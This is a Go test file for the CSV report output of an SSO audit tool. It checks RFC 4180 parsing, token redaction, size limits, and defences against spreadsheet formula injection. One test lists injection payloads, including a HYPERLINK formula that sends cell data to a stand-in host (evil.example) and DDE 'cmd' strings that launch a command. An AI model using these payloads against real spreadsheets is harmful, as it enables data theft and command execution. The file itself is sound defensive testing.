package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/ssoaudit/ssoaudit/audit"
	"github.com/ssoaudit/ssoaudit/internal/redact"
)

// readCSV parses a CSV report back the way a script would (encoding/csv,
// every row the header's width).
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = len(csvHeader)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse back: %v\n%s", err, data)
	}
	if len(rows) == 0 || strings.Join(rows[0], ",") != "scope,name,app_id,platform,rule,status,skip_kind,severity,suppressed,attested,message,location" {
		t.Fatalf("header %v", rows)
	}
	return rows
}

func TestCSVOneRowPerResult(t *testing.T) {
	rep := testReport()
	rows := readCSV(t, render(t, "csv", Options{Catalog: testCatalog()}))
	n := 0
	for range rep.Results() {
		n++
	}
	if len(rows)-1 != n {
		t.Fatalf("%d rows, want one per result (%d)", len(rows)-1, n)
	}
	scopes := map[string]int{}
	for _, row := range rows[1:] {
		scopes[row[0]]++
	}
	if scopes["target"] == 0 || scopes["deployment"] != len(rep.Deployments) {
		t.Errorf("scopes %v, want targets' and %d deployment rows", scopes, len(rep.Deployments))
	}
	if !bytes.Contains(render(t, "csv", Options{}), []byte("\r\n")) {
		t.Error("RFC 4180 lines end in CRLF")
	}
}

// A hostile value in every column comes back whole from a CSV parser, and
// no cell begins with what a spreadsheet reads as a formula (OWASP: =, +,
// -, @, tab, carriage return).
func TestCSVHostileValues(t *testing.T) {
	const token = "A-16620-1122334455-c2VjcmV0c2VjcmV0c2VjcmV0"
	hostile := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"＝1+1",
		"a,b\"c\"\r\nd",
	}
	for i, h := range hostile {
		rep := testReport()
		tr := &rep.Targets[0]
		tr.Name, tr.App.ID, tr.Platform = h, h, h
		tr.Origin = h + "/okta/app.json"
		r := &tr.Results[0]
		r.Rule, r.Status, r.Severity, r.SkipKind = h, audit.Status(h), audit.Severity(h), h
		r.Message = h + " " + token
		secrets := &redact.Set{}
		secrets.Add(token)
		var b bytes.Buffer
		if err := Write(&b, "csv", rep, Options{Secrets: secrets}); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), token) || strings.Contains(b.String(), token[8:]) {
			t.Errorf("value %d: the CSV holds the raw token", i)
		}
		rows := readCSV(t, b.Bytes())
		for _, row := range rows {
			for c, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					t.Errorf("value %d: column %s begins with %q: %q", i, csvHeader[c], cell[:1], cell)
				}
				if strings.HasPrefix(cell, "＝") {
					t.Errorf("value %d: column %s begins with a full-width equals sign", i, csvHeader[c])
				}
			}
		}
		row := rows[1]
		for c, name := range csvHeader {
			switch name {
			case "scope", "suppressed", "attested":
				continue
			case "location":
				// A path, cleaned: only its file and line are sure to stay.
				if !strings.HasSuffix(row[c], "/okta/app.json:1") {
					t.Errorf("value %d: location %q", i, row[c])
				}
				continue
			}
			if !strings.Contains(row[c], visibleCSV(h)) {
				t.Errorf("value %d: column %s is %q, want it to hold %q", i, name, row[c], visibleCSV(h))
			}
		}
	}
}

// visibleCSV is a hostile value as the CSV shows it: made visible by the
// output edge (a control character as an escape), so a line break inside a
// value never splits a row in a tool that is not a CSV parser.
func visibleCSV(s string) string {
	return strings.TrimLeft(visibleField("Message", s), "'")
}

// The CSV is bounded like the other formats people read: one huge value is
// cut, not copied whole.
func TestCSVBounded(t *testing.T) {
	rep := testReport()
	rep.Targets[0].Results[0].Message = strings.Repeat("x", 1<<20)
	var b bytes.Buffer
	if err := Write(&b, "csv", rep, Options{}); err != nil {
		t.Fatal(err)
	}
	if b.Len() > 64<<10 {
		t.Errorf("a 1 MiB message made a %d-byte CSV", b.Len())
	}
	readCSV(t, b.Bytes())
}
